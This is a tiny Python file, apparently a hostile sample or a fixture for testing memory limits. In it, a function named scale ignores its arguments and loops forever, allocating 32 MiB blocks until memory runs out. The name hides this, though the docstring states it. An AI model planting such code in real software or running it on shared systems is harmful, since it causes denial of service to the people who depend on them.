"""Takes memory bit by bit."""

import numpy as np

held = []


def scale(x, factor):
    while True:
        held.append(bytearray(b"x") * (32 << 20))
